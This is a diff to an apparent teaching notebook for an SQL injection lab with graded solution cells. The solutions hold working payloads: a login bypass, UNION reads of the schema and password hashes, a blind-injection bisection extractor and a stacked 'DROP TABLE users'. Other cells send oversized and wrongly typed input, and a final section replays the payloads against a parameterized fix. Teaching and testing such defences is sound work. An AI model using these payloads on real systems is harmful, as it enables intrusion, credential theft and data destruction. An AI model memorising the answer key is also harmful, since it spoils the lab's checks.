@@ -27,6 +27,7 @@
 
 # %%
 import inspect
+import secrets
 import sqlite3
 
 import matplotlib.pyplot as plt
@@ -36,6 +37,7 @@ from labkit.attacks import injection
 from labkit.vulnerable import validation as vulnerable
 
 lab = labkit.open_lab("07-injection")
+USERS_API, LOGIN_API, ME_API = "/api/users", "/api/auth/login", "/api/auth/me"
 lab
 
 # %% [markdown]
@@ -90,8 +92,8 @@ print(inspect.getsource(vulnerable.find_users))
 # first symptom of injection is usually a bug report from a customer called O'Neill:
 
 # %%
-print(injection.lookup(lab.client, "alice@example.com").json())
-print(injection.lookup(lab.client, "o'neill@example.com").json())
+print(lab.client.get(USERS_API, params={"email": "alice@example.com"}).json())
+print(lab.client.get(USERS_API, params={"email": "o'neill@example.com"}).json())
 
 # %% [markdown]
 # The app even prints SQLite's error message (as many debug builds do). That is a gift to an
@@ -109,16 +111,17 @@ print(inspect.getsource(vulnerable.find_login))
 # %% [markdown]
 # `AND` binds tighter than `OR`. Close the email's quote, add `OR` and a condition that is
 # always true, and let the app's own closing quote finish your string. The app logs in the
-# first row that comes back — user 1 is alice, the admin. Store the login body you used in
-# `bypass`.
+# first row that comes back — user 1 is alice, the admin. Send your body to `POST
+# /api/auth/login`, show who you are with `GET /api/auth/me` (`Authorization: Bearer <token>`),
+# and store the body in `bypass`: you will send it again to your fixed app.
 
 # %% labkit={"answer": "auth-bypass"}
 ### BEGIN SOLUTION
 bypass = {"email": "' OR '1'='1", "password": "no idea"}
-token = injection.login(lab.client, **bypass).json()["accessToken"]
-print(lab.client.get("/api/auth/me", headers={"Authorization": f"Bearer {token}"}).json())
+token = lab.client.post(LOGIN_API, json=bypass).json()["accessToken"]
+print(lab.client.get(ME_API, headers={"Authorization": f"Bearer {token}"}).json())
 ### STUB
-bypass = None  # TODO: {"email": ..., "password": ...} that logs you in as alice
+bypass = None  # TODO: {"email": ..., "password": ...} that gets you in as alice
 ### END SOLUTION
 
 # %% labkit={"check": "auth-bypass"}
@@ -131,36 +134,43 @@ lab.check("auth-bypass", bypass)
 # from any table — as long as they have as many columns as the original `SELECT *`. Find that
 # number first: `ORDER BY n` fails as soon as `n` is larger than the column count.
 
+
 # %%
-columns = injection.column_count(lab.client)
+def order_by(n):
+    return lab.client.get(USERS_API, params={"email": f"' ORDER BY {n} --"})
+
+
+columns = 1
+while order_by(columns + 1).status_code == 200:
+    columns += 1
 print(f"the lookup selects {columns} columns")
-print(injection.lookup(lab.client, f"' ORDER BY {columns + 1} --").json())
+print(order_by(columns + 1).json())
 
 # %% [markdown]
 # SQLite's own catalogue, `sqlite_master`, tells you the column names. Put the `sql` column
 # where the page shows a name (the 6th column):
 
 # %%
-for row in injection.union_read(
-    lab.client, "SELECT 1, name, type, sql, 0, sql, 0 FROM sqlite_master"
-):
+schema = "' UNION SELECT 1, name, type, sql, 0, sql, 0 FROM sqlite_master --"
+for row in lab.client.get(USERS_API, params={"email": schema}).json()["users"]:
     if row["name"]:  # indexes SQLite made itself have no SQL
         print(row["name"])
 
 # %% [markdown]
-# Now read `password_hash` through the name column for every user, and store
-# `{email: password_hash}` in `hashes` (only the accounts that have a hash: members who just
-# signed up have none).
+# Now write your own payload: an email that makes the lookup return every user with
+# `password_hash` in the name column. Keep it in `union` (you will replay it against your fix),
+# send it, and store `{email: password_hash}` in `hashes` (only the accounts that have a hash:
+# members who just signed up have none).
 
 # %% labkit={"answer": "union-hashes"}
 ### BEGIN SOLUTION
-rows = injection.union_read(
-    lab.client,
-    "SELECT id, email, role, password_hash, token_version, password_hash, age FROM users",
-)
+picked = "id, email, role, password_hash, token_version, password_hash, age"  # hash as the name
+union = f"' UNION SELECT {picked} FROM users --"
+rows = lab.client.get(USERS_API, params={"email": union}).json()["users"]
 hashes = {row["email"]: row["name"] for row in rows if row["name"]}
 ### STUB
-hashes = {}  # TODO: {email: password_hash} read through injection.union_read
+union = None  # TODO: an email that appends every user's row, password_hash as the name
+hashes = {}  # TODO: {email: password_hash}, read from what comes back
 ### END SOLUTION
 for email, stored in hashes.items():
     print(f"{email:<20} {stored[:50]}...")
@@ -177,23 +187,56 @@ lab.check("union-hashes", hashes)
 # Many endpoints never show data, only a yes or a no: "this email is taken", "login failed",
 # an empty list. That single bit is enough. Ask the lookup for alice *and* a condition of
 # yours: alice comes back when the condition is true, nothing when it is false.
+#
+# 1. Write the **oracle**, `oracle(condition, client=lab.client) -> bool`: one request whose
+#    email is alice's address, your `AND (condition)`, and a comment that swallows the app's
+#    closing quote; `True` when a row comes back. Try it: `oracle("1 = 1")` must be `True`,
+#    `oracle("1 = 2")` `False`.
+# 2. **Bisect.** `oracle(f"({expression}) > {n}")` halves the range of any number the database
+#    can compute: first the length of the hash, `length((SELECT ...))`, then the code point of
+#    each character, `unicode(substr((SELECT ...), i, 1))` — about 7 questions a character.
+#
+# Store what you read in `alice_hash`: a few hundred requests, none of which ever shows the
+# hash.
 
 # %%
-ask = injection.lookup_oracle(lab.client, "alice@example.com")
-print("1 = 1 ->", ask("1 = 1"), "   1 = 2 ->", ask("1 = 2"))
 alice_hash_sql = "SELECT password_hash FROM users WHERE email = 'alice@example.com'"
-print("length > 64 ->", ask(f"length(({alice_hash_sql})) > 64"))
 
-# %% [markdown]
-# Halving the range with each question (`unicode(substr(hash, i, 1)) > n`) finds each
-# character in about 7 questions. `injection.blind_extract` does the bisection; store what it
-# reads in `alice_hash` — and watch the progress bar: a few hundred requests.
 
 # %% labkit={"answer": "blind-extract"}
 ### BEGIN SOLUTION
-alice_hash = injection.blind_extract(ask, alice_hash_sql, progress=True)
+def oracle(condition, client=lab.client):
+    """One request, one bit: does alice come back when ``condition`` must hold too?"""
+    email = f"alice@example.com' AND ({condition}) --"
+    return bool(client.get(USERS_API, params={"email": email}).json().get("users"))
+
+
+def bisect(expression, low, high):
+    """The integer value of an SQL expression in [low, high], in about log2(high - low) asks."""
+    while low < high:
+        middle = (low + high) // 2
+        if oracle(f"({expression}) > {middle}"):
+            low = middle + 1
+        else:
+            high = middle
+    return low
+
+
+print("1 = 1 ->", oracle("1 = 1"), "   1 = 2 ->", oracle("1 = 2"))
+length = bisect(f"length(({alice_hash_sql}))", 0, 256)
+alice_hash = "".join(
+    chr(bisect(f"unicode(substr(({alice_hash_sql}), {i}, 1))", 0, 127))
+    for i in range(1, length + 1)
+)
+
+
 ### STUB
-alice_hash = ""  # TODO: injection.blind_extract(ask, alice_hash_sql, progress=True)
+def oracle(condition, client=lab.client):
+    # TODO: one request; True when alice comes back with your condition ANDed in
+    raise NotImplementedError
+
+
+alice_hash = ""  # TODO: alice's hash, read one yes/no answer of your oracle at a time
 ### END SOLUTION
 print(alice_hash)
 
@@ -208,11 +251,13 @@ lab.check("blind-extract", alice_hash)
 
 # %% labkit={"answer": "stacked-query"}
 ### BEGIN SOLUTION
-stacked = injection.STACKED
+stacked = "'; DROP TABLE users; --"
 ### STUB
 stacked = None  # TODO: an email that ends the statement and starts a second one
 ### END SOLUTION
-print(stacked, "->", injection.lookup(lab.client, stacked).json() if stacked else None)
+print(
+    stacked, "->", lab.client.get(USERS_API, params={"email": stacked}).json() if stacked else None
+)
 
 # %% labkit={"check": "stacked-query"}
 lab.check("stacked-query", stacked)
@@ -227,7 +272,7 @@ lab.check("stacked-query", stacked)
 # %%
 scratch = sqlite3.connect(":memory:")
 scratch.execute("CREATE TABLE users (email TEXT)")
-scratch.executescript(f"SELECT * FROM users WHERE email = '{injection.STACKED}'")
+scratch.executescript("SELECT * FROM users WHERE email = ''; DROP TABLE users; --'")
 print(scratch.execute("SELECT name FROM sqlite_master").fetchall(), "<- no tables left")
 scratch.close()
 
@@ -237,16 +282,16 @@ scratch.close()
 #
 # ## Attack 5 — no length limit
 #
-# Nothing limits the size of the request or of any field. Sign up with a name of five million
-# characters and store the email you used in `big_email`.
+# Nothing limits the size of the request or of any field. Sign up (`POST /api/users`) with a
+# name of five million characters and store the email you used in `big_email`.
 
 # %% labkit={"answer": "oversized"}
 ### BEGIN SOLUTION
-big_email = injection.fresh_email("huge")
-response = injection.create(lab.client, {"email": big_email, "name": "x" * 5_000_000})
+big_email = f"huge-{secrets.token_hex(4)}@example.com"
+response = lab.client.post(USERS_API, json={"email": big_email, "name": "x" * 5_000_000})
 print(response.status_code, f"{len(response.content):,} bytes came back")
 ### STUB
-big_email = None  # TODO: create an account with a multi-megabyte name
+big_email = None  # TODO: the email of a new account whose name is megabytes long
 ### END SOLUTION
 
 # %% labkit={"check": "oversized"}
@@ -256,20 +301,22 @@ lab.check("oversized", big_email)
 # ## Attack 6 — wrong types
 #
 # JSON has strings, numbers, booleans, lists and objects, and the app takes whichever arrives.
-# `injection.wrong_type_bodies()` holds a few bodies whose `age` is not a number. Send them
-# and store the emails of the accounts created in `typed_emails`.
+# Sign up a few members whose `age` is not a whole number — a word, a list, an object, a
+# boolean, a fraction — see what the app stores, and keep the emails of the accounts it
+# accepted in `typed_emails`.
 
 # %% labkit={"answer": "wrong-types"}
 ### BEGIN SOLUTION
 typed_emails = []
-for label, body in injection.wrong_type_bodies().items():
-    response = injection.create(lab.client, body)
+for age in ("abc", [30], {"$gt": 0}, True, 30.5):
+    body = {"email": f"typed-{secrets.token_hex(4)}@example.com", "name": "Type Test", "age": age}
+    response = lab.client.post(USERS_API, json=body)
     stored = response.json().get("age") if response.status_code == 201 else response.json()
-    print(f"{label:<18} sent {body.get('age')!r:<12} {response.status_code} -> {stored!r}")
+    print(f"sent {age!r:<12} {response.status_code} -> stored {stored!r}")
     if response.status_code == 201:
         typed_emails.append(body["email"])
 ### STUB
-typed_emails = []  # TODO: the emails of accounts created with a wrongly typed age
+typed_emails = []  # TODO: the emails of accounts whose age went in as something not a number
 ### END SOLUTION
 
 # %% labkit={"check": "wrong-types"}
@@ -502,6 +549,52 @@ ax.set_title(f"{len(injection.PAYLOADS)} payloads")
 ax.legend()
 plt.tight_layout()
 plt.show()
+
+# %% [markdown]
+# ## Your own payloads against your fix
+#
+# That battery is ours. Now send *yours*, unchanged, to the fixed app: the login body of
+# Attack 1, the UNION of Attack 2, and your oracle from Attack 3 pointed at `fixed.client`.
+# With parameterized queries each one is only an odd email address: no login, no rows, and an
+# oracle that answers the same whatever you ask.
+
+
+# %%
+def bypass_again():
+    if bypass is None:
+        raise NotImplementedError
+    response = fixed.client.post(LOGIN_API, json=bypass)
+    return f"{response.status_code} {response.json()}"
+
+
+def union_again():
+    if union is None:
+        raise NotImplementedError
+    response = fixed.client.get(USERS_API, params={"email": union})
+    return f"{response.status_code}, {len(response.json().get('users') or [])} row(s) came back"
+
+
+def oracle_again():
+    answers = {
+        condition: oracle(condition, client=fixed.client) for condition in ("1 = 1", "1 = 2")
+    }
+    same = len(set(answers.values())) == 1
+    return f"{answers}: " + ("one answer to every question, it learns nothing" if same else
+                             "it still tells true from false")  # fmt: skip
+
+
+for attack, exploit in (
+    ("Attack 1, your login bypass", bypass_again),
+    ("Attack 2, your UNION", union_again),
+    ("Attack 3, your oracle", oracle_again),
+):
+    try:
+        outcome = exploit()
+    except NotImplementedError:
+        outcome = "not written yet"
+    except Exception as exc:  # a fix not written yet makes the fixed app answer 500
+        outcome = f"could not run ({type(exc).__name__}: {exc}) — are your fixes written?"
+    print(f"{attack}: {outcome}")
 
 # %% [markdown]
 # ## Recap
